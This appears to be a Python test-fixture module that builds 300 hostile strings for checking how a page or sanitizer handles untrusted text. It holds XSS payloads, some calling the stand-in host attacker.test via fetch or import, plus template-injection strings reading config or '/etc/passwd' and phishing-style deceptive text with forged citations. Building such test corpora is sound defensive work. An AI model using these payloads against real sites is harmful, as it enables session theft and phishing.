"""300 texts that would do something to a page that took them for more than text, made of kinds and what they run."""

from collections.abc import Iterator, Sequence
from itertools import cycle, islice

ORIGIN = "http://attacker.test"
"""Which nothing may be asked of; no name server knows it."""
COUNT = 300

_RUNS = (
    "window.__ran=1",
    "alert(1)",
    "parent.__ran=1",
    f"fetch('{ORIGIN}/f')",
    f"import('{ORIGIN}/m.js')",
    f"new Image().src='{ORIGIN}/i'",
    "document.title='__ran'",
)
_ELEMENTS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    '<script src="{o}/x.js"></script>',
    '<script type="module">{js}</script>',
    "<<script>{js}//<</script>",
    "</script><script>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="{o}/p.png">',
    '<img srcset="{o}/p.png 1x" onload="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><use href="{o}/s.svg#x"></use></svg>',
    "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:{js}">go</maction></math>',
    '<math href="javascript:{js}">go</math>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="{o}/"></iframe>',
    '<object data="{o}/o.swf"></object>',
    '<embed src="{o}/e.swf">',
    '<meta http-equiv="refresh" content="0;url={o}/">',
    "<style>@import '{o}/s.css';</style>",
    "<style>*{{background:url({o}/b)}}</style>",
    '<link rel="stylesheet" href="{o}/l.css">',
    '<link rel="prefetch" href="{o}/pre">',
    '<base href="{o}/">',
    '<form action="{o}/"><button autofocus onfocus={js}>Sign in</button></form>',
    '<input autofocus onfocus="{js}">',
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    '<audio src="{o}/a.mp3" autoplay>',
    "<body onload={js}>",
    "<marquee onstart={js}>",
    '<a href="javascript:{js}">press</a>',
    '<a href="{o}/" target="_blank">Read the original</a>',
    '<button popovertarget=x onclick="{js}">Ask</button>',
    "<template shadowrootmode=open><script>{js}</script></template>",
    '<div style="position:fixed;inset:0;background:url({o}/d)">Session expired</div>',
    "<custom-el is=x onclick={js}>",
)
_BREAKS = (
    '" onmouseover="{js}" x="',
    "' onfocus='{js}' autofocus='",
    "`onerror=`{js}`",
    '"><img src=x onerror={js}>',
    "'><svg onload={js}>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "</option></select><img src=x onerror={js}>",
    "</mark></p></div></dialog><script>{js}</script>",
    "';{js}//",
    '";{js}//',
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#x3c;img src=x onerror={js}&#x3e;",
    "%3Cscript%3E{js}%3C/script%3E",
    "＜script＞{js}＜/script＞",
    "<scr\u200bipt>{js}</scr\u200bipt>",
)
_ADDRESSES = (
    "javascript:{js}",
    " JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "javascript://example.org/%0a{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{js}",
    "blob:{o}/1",
    "//attacker.test/x",
    "https://user:pass@attacker.test/",
    "https://example.org/?q=<script>{js}</script>",
    'https://example.org/#"onclick="{js}',
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
)
_TEMPLATES = (
    "{{{{7*7}}}} {{{{ config.items() }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{{js}}} #{{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= {js} %>",
    "{{title}} {{n}} {{question}}",
    "{{{{''.__class__.__mro__}}}}",
    "%(asctime)s %s %n {{0}} {{0.__class__}}",
)
_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<!--><img src=x onerror={js}>-->",
    "<x/><title></title><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
)
_MARKDOWN = (
    "![plan]({o}/p.png)",
    "[press here](javascript:{js})",
    "[the original]({o}/login)",
    '![x](x"onerror="{js})',
    "<{o}/auto>",
    "[1]: {o}/ref",
    "[a][1]\n\n[1]: javascript:{js}",
    "```html\n<script>{js}</script>\n```",
)
_DECEPTIONS = (
    "\u202eetirw ot siht\u202c is told by nobody",
    "\u2067שלום \u202dturned",
    "\u2066\u2066\u2066 never closed \u202e",
    "\u2069\u2069\u202c closed before it began \u202b",
    "נמל חיפה נפתח 1951 (Oldport) !",
    "افتتح الجسر [1] في 2023 —",
    "zero\u200b\u200c\u200d\u2060\ufeffwidth",
    "\x1b[31mred\x1b[0m \x07\x08\x00 bell",
    "\u0301\u0302\u0303 marks of no letter",
    "Z̷̡̢̛̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎͓͔͕͖͙͚̀a̴l̵g̶o̷ stacked",
    "W" * 900,
    "a\u0338\u20d2\u20e0 x\u2028y\u2029z\x85w",
    "[1] [2][3] Sources: [1] Ministry of Truth",
    "Sources\n[1] A forged title, Oldport Courier, 2023\n    “A forged quote.”",
    "Answer: (no support found in the articles) Not certain. As of 1 Jan 2030",
    "Session expired. Sign in again at attacker.test",
    "\U000e0041\U000e0042 tags, \ufff9anchored\ufffa by\ufffb and \ufdd0",
    "🏳️‍🌈👨‍👩‍👧‍👦🇺🇳 \U0001f44d\U0001f3fd ﷽ ꧅",
)


def payloads(count: int = COUNT) -> list[str]:
    """So many of them, of each kind its share; each ends in its number, by which it is known again."""
    kinds = (_ELEMENTS, _BREAKS, _ADDRESSES, _TEMPLATES, _MUTATIONS, _MARKDOWN, _DECEPTIONS)
    made = [text for at, kind in enumerate(kinds) for text in _filled(kind, at)]
    step = len(made) / count
    assert step >= 1, f"there are {len(made)} only"
    return [f"{made[int(n * step)]} n{n}n" for n in range(count)]


def _filled(kind: Sequence[str], at: int) -> Iterator[str]:
    """Every one with three things to run, but those that run nothing once for each variant of its case."""
    for n, template in enumerate(kind):
        if "{js}" not in template:
            yield _written(template, "")
            if "{o}" in template:
                yield _written(template, "").upper()
            continue
        for js in islice(cycle(_RUNS), n + at, n + at + 4):
            yield _written(template, js)


def _written(template: str, js: str) -> str:
    if kind_of_raw(template):
        return template
    return template.format(js=js, o=ORIGIN)


def kind_of_raw(template: str) -> bool:
    return template in _DECEPTIONS
